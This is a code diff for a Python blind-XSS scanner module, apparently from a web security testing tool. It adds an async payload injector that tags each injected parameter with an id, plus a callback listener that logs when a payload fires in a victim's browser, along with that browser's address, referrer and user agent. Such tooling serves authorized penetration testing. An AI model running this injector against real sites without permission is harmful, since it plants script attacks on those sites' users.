@@ -1,23 +1,165 @@
-import requests
+import asyncio
+import hashlib
+import logging
+import time
+from typing import Dict, List, Optional, Tuple
+from urllib.parse import urlencode
+
+import click
+from aiohttp import ClientSession, web
+
 from engine.config import BLIND_PAYLOAD_TEMPLATE
+from engine.tester import build_request, send_request
+
+logger = logging.getLogger(__name__)
+
+
+class InjectionIndex:
+    """
+    Компактный индекс инъекций: id -> (url, param).
+
+    URL хранятся один раз (интернируются), записи ссылаются на них по номеру.
+    """
+
+    def __init__(self):
+        self._urls: List[str] = []
+        self._url_ids: Dict[str, int] = {}
+        self._by_id: Dict[str, Tuple[int, str]] = {}
+
+    @staticmethod
+    def make_id(url: str, param: str) -> str:
+        """Детерминированный короткий id для пары (url, param)."""
+        return hashlib.blake2b(f"{url}\0{param}".encode('utf-8'), digest_size=6).hexdigest()
+
+    def register(self, url: str, param: str) -> str:
+        injection_id = self.make_id(url, param)
+        if injection_id not in self._by_id:
+            url_idx = self._url_ids.get(url)
+            if url_idx is None:
+                url_idx = self._url_ids[url] = len(self._urls)
+                self._urls.append(url)
+            self._by_id[injection_id] = (url_idx, param)
+        return injection_id
+
+    def lookup(self, injection_id: str) -> Optional[Tuple[str, str]]:
+        entry = self._by_id.get(injection_id)
+        if entry is None:
+            return None
+        return self._urls[entry[0]], entry[1]
+
+    def __len__(self) -> int:
+        return len(self._by_id)
+
 
 class BlindXSSScanner:
+    """
+    Асинхронный blind-XSS инжектор.
+
+    Использует сессию сканирования (общий пул соединений); каждый payload
+    помечен уникальным id пары (url, param), который возвращается в callback.
+    """
 
-    def __init__(self, payload_url: str):
+    def __init__(self, payload_url: str, session: Optional[ClientSession] = None,
+                 index: Optional[InjectionIndex] = None):
         self.payload_url = payload_url
+        self.session = session
+        self.index = index if index is not None else InjectionIndex()
 
-    def generate_payload(self) -> str:
-        return BLIND_PAYLOAD_TEMPLATE.format(payload_url=self.payload_url)
+    def generate_payload(self, url: Optional[str] = None, param: Optional[str] = None) -> str:
+        payload_url = self.payload_url
+        if url is not None and param is not None:
+            injection_id = self.index.register(url, param)
+            sep = '&' if '?' in payload_url else '?'
+            payload_url = f"{payload_url}{sep}{urlencode({'id': injection_id})}"
+        return BLIND_PAYLOAD_TEMPLATE.format(payload_url=payload_url)
 
-    def send(self, url: str, param: str) -> None:
-        payload = self.generate_payload()
+    async def send(self, url: str, param: str) -> str:
+        """Отправляет помеченный payload в GET-параметр url и возвращает его."""
+        payload = self.generate_payload(url, param)
+        await send_request(self.session, 'GET', url, {param: payload})
+        return payload
+
+    async def inject(self, base_url: str, endpoint: dict, param: str) -> Optional[str]:
+        """
+        Отправляет помеченный payload в параметр эндпоинта (тем же методом и action,
+        что и обычные проверки). Возвращает payload или None при ошибке.
+        """
+        request = build_request(base_url, endpoint, {})
+        if request is None:
+            return None
+        # id привязывается к адресу обработчика без query-строки
+        payload = self.generate_payload(request[1].split('?', 1)[0], param)
+        request = build_request(base_url, endpoint, {param: payload})
+        response = await send_request(self.session, *request)
+        return payload if response is not None else None
+
+
+class BlindCallbackListener:
+    """
+    Локальный HTTP-сервер для out-of-band callback'ов blind XSS.
+
+    Любой запрос записывается как срабатывание; id из query-параметра сопоставляется
+    с инъекцией по InjectionIndex. Может работать и после окончания сканирования.
+    """
+
+    def __init__(self, index: InjectionIndex, host: str = '0.0.0.0', port: int = 8899):
+        self.index = index
+        self.host = host
+        self.port = port
+        self.hits: List[dict] = []
+        self._runner: Optional[web.AppRunner] = None
+
+    async def _handle(self, request: web.Request) -> web.Response:
+        injection_id = request.query.get('id', '')
+        origin = self.index.lookup(injection_id) if injection_id else None
+        hit = {
+            'time': time.time(),
+            'id': injection_id,
+            'url': origin[0] if origin else None,
+            'param': origin[1] if origin else None,
+            'remote': request.remote,
+            'referer': request.headers.get('Referer'),
+            'user_agent': request.headers.get('User-Agent'),
+            'path': request.path_qs,
+        }
+        self.hits.append(hit)
+        if origin:
+            click.secho(f"[!!] Blind XSS fired: {origin[1]} on {origin[0]} (from {request.remote})", fg="red")
+        else:
+            logger.info(f"Callback без известного id: {request.path_qs} от {request.remote}")
+        # пустой скрипт: браузер жертвы не получает ошибку загрузки
+        return web.Response(text='', content_type='application/javascript')
+
+    async def start(self) -> None:
+        app = web.Application()
+        app.router.add_route('*', '/{tail:.*}', self._handle)
+        self._runner = web.AppRunner(app, access_log=None)
+        await self._runner.setup()
+        site = web.TCPSite(self._runner, self.host, self.port)
+        await site.start()
+        logger.info(f"Blind XSS listener: http://{self.host}:{self.port}/")
+
+    async def stop(self) -> None:
+        if self._runner is not None:
+            await self._runner.cleanup()
+            self._runner = None
+
+    async def serve_forever(self) -> None:
+        """Ждёт callback'и до отмены (Ctrl+C)."""
         try:
-            requests.get(
-                url,
-                params={param: payload},
-                timeout=10,
-                verify=False,
-                proxies={'http': None, 'https': None}
-            )
-        except requests.RequestException:
-            pass
\ No newline at end of file
+            while True:
+                await asyncio.sleep(3600)
+        finally:
+            await self.stop()
+
+    @property
+    def url(self) -> str:
+        host = '127.0.0.1' if self.host in ('0.0.0.0', '') else self.host
+        return f"http://{host}:{self.port}/c.js"
+
+    async def __aenter__(self) -> 'BlindCallbackListener':
+        await self.start()
+        return self
+
+    async def __aexit__(self, exc_type, exc, tb) -> None:
+        await self.stop()